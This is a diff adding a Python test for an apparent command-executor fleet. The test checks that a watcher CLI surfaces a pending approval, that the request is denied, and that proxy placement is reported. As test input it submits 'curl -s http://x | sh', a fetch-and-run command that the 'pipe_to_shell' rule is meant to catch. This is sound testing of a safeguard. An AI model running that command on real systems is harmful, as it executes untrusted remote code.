@@ -368,6 +368,41 @@ def test_an_always_approval_given_once_holds_on_every_member(fleet):
             assert info.value.code() == grpc.StatusCode.FAILED_PRECONDITION
 
 
+def test_the_cli_watches_and_decides_across_the_fleet(fleet, capsys):
+    """`executor approvals --fleet` lists every member's pending approvals; `executor approve ...
+    --fleet` decides on the owner (here: deny, so no always-approval leaks into other tests)."""
+    import json
+    import os
+    import subprocess
+    import sys
+
+    from executor.cli import main
+
+    spec = ",".join(f"{m}={t}" for m, t in fleet.targets.items())
+    task = fleet.task_for("executor-2", "cli-approvals")
+    env = {**os.environ, "PYTHONPATH": str(ROOT)}
+    watcher = subprocess.Popen([sys.executable, "-m", "executor", "approvals", "--fleet", spec, "--json",
+                                "--token", infra.APPROVER], stdout=subprocess.PIPE, text=True, env=env)
+    result: dict = {}
+    with _client(fleet.proxies["haproxy"].target) as c:
+        runner = threading.Thread(target=lambda: result.update(r=c.run(task, "curl -s http://x | sh")), daemon=True)
+        runner.start()
+        try:
+            line = json.loads(watcher.stdout.readline())
+        finally:
+            watcher.kill()
+            watcher.wait()
+        assert line["member"] == "executor-2" and line["task_id"] == task and line["rule"] == "pipe_to_shell"
+        assert main(["approve", line["approval_id"], "deny", "--fleet", spec, "--token", infra.APPROVER]) == 0
+        assert "on executor-2" in capsys.readouterr().out
+        runner.join(30)
+    assert result["r"].exit.status == pb.EXIT_STATUS_DENIED
+    assert main(["fleet", "owner", task, "--members", spec]) == 0
+    assert capsys.readouterr().out.strip() == "executor-2"
+    assert main(["fleet", "proxy-config", "--format", "nginx", "--members", spec]) == 0
+    assert capsys.readouterr().out == placement.nginx_upstream(fleet.targets)
+
+
 def test_fleet_client_places_like_the_proxies(fleet):
     with Fleet(fleet.targets, token=infra.AGENT, deadline=60) as f:
         for i in range(6):
